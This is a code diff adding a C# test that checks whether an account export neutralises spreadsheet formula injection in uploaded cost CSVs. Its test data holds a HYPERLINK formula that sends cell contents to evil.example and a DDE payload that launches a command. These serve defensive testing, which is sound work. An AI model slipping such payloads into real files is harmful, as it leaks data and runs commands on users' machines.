@@ -44,6 +44,28 @@ public sealed class AccountExportTests(TestPostgres postgres)
     }
 
     [Fact]
+    public async Task ExportedCellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedAndNumbersStayNumbers()
+    {
+        await using var app = await SellmetricsApp.StartAsync(postgres);
+        var seller = await Seller.SignUpAsync(app, "Injected");
+        const string hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Refund\")";
+        var csv = $"sku,unitCost,currency,effectiveFrom\n\"{hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal)}\",12.5,USD,2026-01-01\n" +
+            "@SUM(A1:A9),1,USD,2026-01-01\n+cmd|' /C calc'!A0,2,USD,2026-01-01\n-42,3.75,USD,2026-01-01\n";
+        await AppClient.EnsureOkAsync(await seller.Browser.SendAsync(new HttpRequestMessage(HttpMethod.Post, "/api/products/cogs")
+        {
+            Content = new StringContent(csv, System.Text.Encoding.UTF8, "text/csv"),
+        }));
+
+        var rows = Cells((await ExportAsync(seller))["unit_costs.csv"]);
+
+        var header = rows[0];
+        var costs = rows.Skip(1).ToDictionary(row => row[header.IndexOf("sku")], row => row[header.IndexOf("unit_cost")]);
+        Assert.Equal(["'+cmd|' /C calc'!A0", "'" + hyperlink, "'@SUM(A1:A9)", "-42"], costs.Keys.Order(StringComparer.Ordinal));
+        Assert.Equal("12.5000", costs["'" + hyperlink]);
+        Assert.Equal("3.7500", costs["-42"]);
+    }
+
+    [Fact]
     public async Task WithoutASessionThereIsNoExport()
     {
         await using var app = await SellmetricsApp.StartAsync(postgres);
@@ -66,5 +88,18 @@ public sealed class AccountExportTests(TestPostgres postgres)
         }
 
         return files;
+    }
+
+    private static List<List<string>> Cells(string csv)
+    {
+        using var parser = new Microsoft.VisualBasic.FileIO.TextFieldParser(new StringReader(csv)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
+        parser.SetDelimiters(",");
+        var rows = new List<List<string>>();
+        while (!parser.EndOfData)
+        {
+            rows.Add([.. parser.ReadFields()!]);
+        }
+
+        return rows;
     }
 }
